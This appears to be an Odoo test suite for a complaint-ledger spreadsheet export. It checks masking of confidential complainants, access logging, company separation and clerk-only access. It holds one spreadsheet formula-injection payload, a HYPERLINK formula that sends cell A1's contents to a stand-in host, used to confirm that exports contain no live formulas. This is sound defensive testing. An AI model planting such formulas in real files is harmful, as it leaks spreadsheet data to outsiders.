"""The ledger is what a list shows, as a file: logged, and naming nobody whom it may not name."""

import io
import json

import openpyxl
from odoo.http import Request
from odoo.tests import HttpCase, tagged
from odoo.tools import mute_logger

from ..common import GROUP, ComplaintCommon

RUN = '=HYPERLINK("http://x.example/"&A1,"看")'


@tagged("post_install", "-at_install")
class TestLedger(HttpCase, ComplaintCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.env["res.lang"]._activate_lang("zh_CN")
        cls.clerk.lang = "zh_CN"
        cls.plain = cls.accepted(service_item=RUN)
        cls.asked = cls.new_complaint(
            partner_name="欧阳小明",
            complainant_phone="13900000002",
            is_confidential=True,
            description="<p>我是欧阳小明，电话13900000002，窗口没有人。</p>",
        )
        cls.hidden = cls.new_complaint(partner_name="暗访人", is_discipline_matter=True)
        cls.hidden.sudo().user_id = cls.leader
        cls.tickets = cls.plain + cls.asked + cls.hidden
        cls.env.flush_all()

    def answer(self, user, **asked):
        self.authenticate(user.login, user.login)
        form = {"data": json.dumps(asked), "csrf_token": Request.csrf_token(self)}
        return self.url_open("/complaint/ledger.xlsx", form)

    def lines(self, user=None, **asked):
        """Return the headings, and the lines by the complaint's number or place."""
        answer = self.answer(user or self.clerk, **asked)
        self.assertEqual(answer.status_code, 200)
        sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
        self.assertNotIn("f", {cell.data_type for row in sheet.iter_rows() for cell in row})
        head, *lines = [[cell or "" for cell in row] for row in sheet.values]
        return [dict(zip(head, line, strict=True)) for line in lines]

    def rows(self):
        return self.env["complaint.access.log"].search([("act", "=", "ledger")])

    def test_p4_6_what_is_no_list_is_refused(self):
        for asked in ({}, {"ids": ["x"]}, {"domain": [["nothing", "=", 1]]}, {"domain": 7}):
            with self.subTest(asked):
                self.assertEqual(self.answer(self.clerk, **asked).status_code, 400)
        self.assertFalse(self.rows())

    def test_p4_6_it_holds_what_the_list_shows_and_masks_who_asked_for_it(self):
        mine = [("id", "in", self.tickets.ids)]
        one, two = self.lines(domain=mine, ids=[])
        self.assertEqual(one["投诉编号"], self.plain.number)
        self.assertEqual((one["联系电话"], one["办理事项"]), ("13812345678", RUN))
        self.assertIn("王小明", one.values())
        said = str(two)
        self.assertIn("〔姓名〕", two.values())
        self.assertIn("窗口没有人", said)
        for secret in ("欧阳小明", "13900000002", "暗访人"):
            self.assertNotIn(secret, said)

    def test_p4_6_selected_lines_alone(self):
        lines = self.lines(domain=[], ids=(self.plain + self.hidden).ids)
        self.assertEqual([line["投诉编号"] for line in lines], [self.plain.number])

    def test_p4_6_who_may_not_read_contacts_gets_none(self):
        for name in ("complainant_phone", "complainant_id_number"):
            field = self.env["helpdesk.ticket"]._fields[name]
            self.patch(field, "groups", "base.group_erp_manager")
        (line,) = self.lines(domain=[], ids=self.plain.ids)
        for secret in ("王小明", "13812345678"):
            self.assertNotIn(secret, str(line))
        self.assertIn("〔电话〕", line.values())

    def test_p4_6_each_download_is_logged(self):
        self.lines(domain=[("id", "in", self.tickets.ids)], ids=[])
        row = self.rows()
        self.assertEqual(len(row), 1)
        self.assertIn("2", row.subject)
        self.assertEqual((row.user_id, row.ticket_id.id), (self.clerk, False))
        self.assertNotIn("王小明", f"{row.subject}{row.reason}")
        self.assertFalse(self.env["complaint.access.chain"]._verify(self.env.company))

    def test_u7_5_a_restricted_case_has_a_row_of_its_own(self):
        """Its clerk downloads it; a manager reads neither the row nor another number."""
        self.hidden.sudo().user_id = self.clerk
        self.lines(domain=[("id", "in", self.tickets.ids)], ids=[])
        own = self.rows().filtered(lambda row: row.ticket_id == self.hidden)
        self.assertEqual(len(self.rows()), 2)
        self.assertIn("2", (self.rows() - own).subject)
        self.assertNotIn(own, self.rows().with_user(self.manager).search([]))

    def test_p4_6_another_centre_and_other_teams_stay_out(self):
        other = self.env["res.company"].create({"name": "另一中心"})
        self.plain.sudo().flush_recordset()
        self.env.cr.execute(
            "UPDATE helpdesk_ticket SET company_id = %s WHERE id = %s", [other.id, self.plain.id]
        )
        self.env.invalidate_all()
        ordinary = self.env["helpdesk.ticket"].create({"name": "别的", "description": "别的"})
        asked = (self.plain + self.asked).ids + ordinary.ids
        self.assertEqual(len(self.lines(domain=[("id", "in", asked)], ids=[])), 1)

    @mute_logger("odoo.http")
    def test_p4_6_nobody_but_clerks_downloads_it(self):
        for user in (self.leader, self.archivist, self.outsider, self.rep):
            with self.subTest(user=user.login):
                self.assertFalse(user.has_group(f"{GROUP}clerk"))
                answer = self.answer(user, domain=[], ids=self.plain.ids)
                self.assertEqual(answer.status_code, 403)
        self.assertFalse(self.rows())
